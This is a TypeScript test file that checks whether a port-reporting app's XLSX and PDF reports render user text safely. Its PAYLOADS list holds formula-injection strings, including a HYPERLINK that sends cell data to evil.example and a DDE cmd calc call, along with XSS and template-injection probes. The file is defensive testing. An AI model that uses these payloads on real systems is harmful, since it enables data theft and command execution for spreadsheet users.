// Text fields filled with formula, HTML and script payloads: stored as typed, and written by every
// spreadsheet (coil, SOF, prompter reports) as text cells, never formulas, and by the container
// report PDF as the very text (nothing in it read as markup).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openXlsx, pdfPages, postForFile } from '../../../server/reports/read-files.js';
import { makeReportWorld, type ReportWorld } from '../../../server/reports/report-fixture.js';
import { ReportBook } from '../../../server/reports/xlsx.js';
import { startTestServer, type TestServer } from '../../../server/testing.js';
import { projectResources, type ResourceName, resources } from '../../../src/domain/registry.js';
import type { Resource } from '../../../src/domain/resource.js';
import { unzip } from '../../fixtures/unzip.js';

/** Texts a spreadsheet would run, or a page would render, if they were taken for what they say. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  '+SUM(1;2)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|x',
  '=1+1\tafter a tab',
  '<script>alert("x")</script>',
  '<img src=x onerror=alert(1)>',
  '"><b>bold</b><!--',
  '#{7*7}{{7*7}}<%= 7*7 %>',
];
/** What a cell may not start with unless it is a text cell. */
const FORMULA_START = /^[=+\-@\t\r]/;

let server: TestServer;
let world: ReportWorld;
const stored = new Set<string>();

type Row = Record<string, unknown> & { id: string };

/** Sets every text field of a record to a payload (rotating); fields the record refuses are left as they were. */
async function fill(name: ResourceName, row: Row, offset: number) {
  const resource = resources[name] as Resource;
  const body: Record<string, string> = {};
  Object.entries(resource.fields).forEach(([field, definition], index) => {
    if (definition.info.kind !== 'text') return;
    const payload = PAYLOADS[(index + offset) % PAYLOADS.length];
    body[field] = payload.slice(0, definition.info.maxLength ?? payload.length);
  });
  for (let attempt = 0; attempt < 4 && Object.keys(body).length > 0; attempt++) {
    const answer = await world.api<Row>('PATCH', `/api/${name}/${row.id}/`, { token: world.admin, body });
    if (answer.status === 200) {
      for (const [field, value] of Object.entries(body)) {
        // Stored as typed (text is trimmed at its ends, as every text field is).
        expect(answer.body[field], `${name}.${field}`).toBe(value.trim());
        stored.add(value.trim());
      }
      return;
    }
    for (const field of Object.keys(answer.body)) delete body[field];
  }
}

async function poison(project: string) {
  let offset = 0;
  const { body: projectRow } = await world.api<Row>('GET', `/api/project/${project}/`, {
    token: world.admin,
  });
  await fill('project', projectRow, offset++);
  for (const name of projectResources) {
    if (name === 'project' || name === 'attachment') continue;
    const list = await world.api<{ results: Row[] }>(
      'GET',
      `/api/${name}/?project=${project}&page_size=999`,
      {
        token: world.admin,
      },
    );
    for (const row of list.body.results) await fill(name, row, offset++);
  }
  // The lookups the reports name (vessel, port, customer, events, activity...).
  for (const name of ['vessel', 'port', 'accounts', 'event', 'project-activity', 'report-status'] as const) {
    const list = await world.api<{ results: Row[] }>('GET', `/api/${name}/?page_size=999`, {
      token: world.admin,
    });
    for (const row of list.body.results) await fill(name, row, offset++);
  }
}

beforeAll(async () => {
  server = await startTestServer();
  world = await makeReportWorld(server);
  await poison(world.project);
});
afterAll(async () => {
  await server?.close();
});

async function worksheetXml(bytes: Buffer): Promise<string> {
  const entries = await unzip(bytes);
  return [...entries]
    .filter(([name]) => name.startsWith('xl/worksheets/'))
    .map(([, content]) => content.toString())
    .join('\n');
}

describe('spreadsheets', () => {
  const seen = new Set<string>();

  it.each(['coil', 'sof', 'prompter'] as const)(
    'the %s report writes every payload as a text cell',
    async (kind) => {
      const response = await postForFile(server.url, `/api/project/${world.project}/make_${kind}_report/`, {
        token: world.admin,
        body: { language: 'en' },
      });
      expect(response.status, response.bytes.toString()).toBe(200);
      // Named after the project's code (a payload too): a plain download name, never sniffed.
      expect(response.headers.get('content-disposition')).toMatch(
        /^attachment; filename="[^"\\/]*"; filename\*=UTF-8''[^\s"';]*$/,
      );
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      expect(await worksheetXml(response.bytes)).not.toMatch(/<f[ >]/);
      const workbook = await openXlsx(response.bytes);
      let texts = 0;
      for (const sheet of workbook.worksheets)
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            expect(cell.formula, cell.address).toBeUndefined();
            expect(cell.type, cell.address).not.toBe(6); // ExcelJS ValueType.Formula
            // A merged cell reads as its master's value (type Merge): the master itself is checked.
            if (typeof cell.value !== 'string' || cell.type === 1) return;
            texts++;
            if (FORMULA_START.test(cell.value)) expect(cell.type, cell.address).toBe(3); // ValueType.String
            for (const payload of stored) if (cell.value.includes(payload)) seen.add(payload);
          }),
        );
      expect(texts).toBeGreaterThan(10);
    },
  );

  it('showed each payload, verbatim, in some report', () => {
    expect([...stored].filter((payload) => !seen.has(payload))).toEqual([]);
    expect([...seen].filter((payload) => FORMULA_START.test(payload)).length).toBeGreaterThanOrEqual(4);
  });
});

describe('the report writer', () => {
  it('writes texts starting with a tab or a line break (which the API trims) as text cells too', async () => {
    const book = await ReportBook.open();
    const sheet = book.addSheet('Sheet', [20, 20]);
    sheet.fields([
      ['tab', '\t=1+1'],
      ['return', '\r=1+1'],
      ['newline', '\n@SUM(A1)'],
    ]);
    const workbook = await openXlsx(await book.toBuffer());
    const values: unknown[] = [];
    workbook.worksheets[0]?.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.formula).toBeUndefined();
        expect(cell.type).toBe(3);
        values.push(cell.value);
      }),
    );
    // XML reads a lone carriage return as a line feed; either way a text, not a formula.
    expect(values).toEqual([
      'tab',
      '\t=1+1',
      'return',
      expect.stringMatching(/^[\r\n]=1\+1$/),
      'newline',
      '\n@SUM(A1)',
    ]);
  });
});

describe('the container report PDF', () => {
  it('prints every payload as the text typed', async () => {
    // Every free-text field of the report, each with a payload (the number, the ISO 6346 size-type code
    // and the signature's PNG are checked values, not text printed as typed).
    const fields = (resources['container-report'] as Resource).fields;
    const checked = ['container_number', 'size_type', 'signature'];
    const body: Record<string, string> = {};
    Object.entries(fields)
      .filter(([field, definition]) => definition.info.kind === 'text' && !checked.includes(field))
      .forEach(([field, definition], index) => {
        const payload = PAYLOADS[index % PAYLOADS.length];
        body[field] = payload.slice(0, definition.info.maxLength ?? payload.length);
      });
    expect(Object.keys(body).length).toBeGreaterThanOrEqual(3);
    const made = await world.api<Row>('POST', '/api/container-report/', {
      token: world.admin,
      body: { container_number: 'CSQU3054383', ...body },
    });
    expect(made.status, JSON.stringify(made.body)).toBe(201);
    for (const [field, value] of Object.entries(body)) expect(made.body[field]).toBe(value);
    const response = await postForFile(
      server.url,
      `/api/container-report/${made.body.id}/make_container_report/`,
      {
        token: world.admin,
        body: { language: 'en' },
      },
    );
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/pdf');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; /);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    const squeeze = (text: string) => text.replace(/\s+/g, '');
    const text = squeeze((await pdfPages(response.bytes)).map((page) => page.text).join(' '));
    for (const value of Object.values(body)) expect(text, value).toContain(squeeze(value));
  });
});
